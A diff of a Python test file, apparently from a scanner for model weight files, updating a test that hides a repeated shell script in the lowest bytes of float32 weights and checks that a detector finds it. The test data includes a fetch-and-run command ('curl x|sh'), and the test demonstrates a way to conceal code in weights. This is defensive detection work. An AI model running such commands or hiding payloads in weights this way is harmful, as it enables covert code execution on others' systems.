@@ -73,12 +73,14 @@ def test_a_script_that_fetches_and_runs_is_denied(command: str, tmp_path: Path) 
 
 
 def test_a_script_repeated_in_the_lowest_bytes_is_found() -> None:
-    from steelyard.weights.checks import low_bits
-    from steelyard.weights.source import Memory
+    from steelyard.weights.checks.low_bits import Search
 
     weights = np.random.default_rng(0).standard_normal(1 << 15).astype(np.float32)
     script = np.frombuffer((b"#!/bin/sh\ncurl x|sh\n" * 2000)[: 1 << 15], np.uint8)
     bits = weights.view(np.uint32)
-    assert low_bits.find(Memory(bits.tobytes(), "w"), "F32", 0, bits.nbytes) is None
+    search = Search(4)
+    search.add(0, 0, memoryview(bits.tobytes()))
     bits[:] = (bits & ~np.uint32(0xFF)) | script
-    assert low_bits.find(Memory(bits.tobytes(), "w"), "F32", 0, bits.nbytes)
+    search.add(1, 0, memoryview(bits.tobytes()))
+    search.flush()
+    assert set(search.found) == {1}
